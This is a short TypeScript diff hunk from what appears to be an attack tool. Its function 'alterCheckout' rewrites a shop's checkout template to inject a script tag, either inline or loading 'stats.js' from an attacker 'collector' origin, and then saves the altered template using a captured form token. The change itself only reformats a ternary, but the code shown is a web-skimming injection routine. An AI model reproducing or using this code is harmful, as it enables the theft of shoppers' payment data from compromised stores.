@@ -80,9 +80,7 @@ const alterCheckout = async ({ shop, collector }: Target, order: AttackOrder, se
       ? `<script>${script}</script>`
       : `<script src="${collector.origin}/stats.js"></script>`;
   const changed =
-    order.variant === 'js'
-      ? `${clean.trimEnd()}\n${ours}\n`
-      : alteredLink(clean, order.page, collector.origin);
+    order.variant === 'js' ? `${clean.trimEnd()}\n${ours}\n` : alteredLink(clean, order.page, collector.origin);
   const saved = await request(address, { headers, body: { formToken, template: changed } });
   return saved.status === 303 && changed !== clean;
 };
